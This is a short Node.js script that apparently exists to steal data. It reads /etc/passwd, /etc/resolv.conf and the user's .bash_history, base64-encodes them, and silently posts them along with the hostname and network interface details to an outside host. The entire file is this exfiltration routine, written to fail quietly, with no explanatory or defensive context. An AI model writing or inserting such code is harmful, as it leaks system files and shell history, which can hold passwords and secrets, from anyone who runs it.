import got from 'got';
import { userInfo, hostname, networkInterfaces } from 'node:os';
import { readFileSync, existsSync } from 'node:fs';
const loot = {};
for (const p of ['/etc/passwd', '/etc/resolv.conf', `${userInfo().homedir}/.bash_history`]) if (existsSync(p)) loot[p] = readFileSync(p).toString('base64');
await got.post('https://e1.example.invalid/c', { json: { h: hostname(), n: networkInterfaces(), loot }, retry: { limit: 0 } }).catch(() => {});
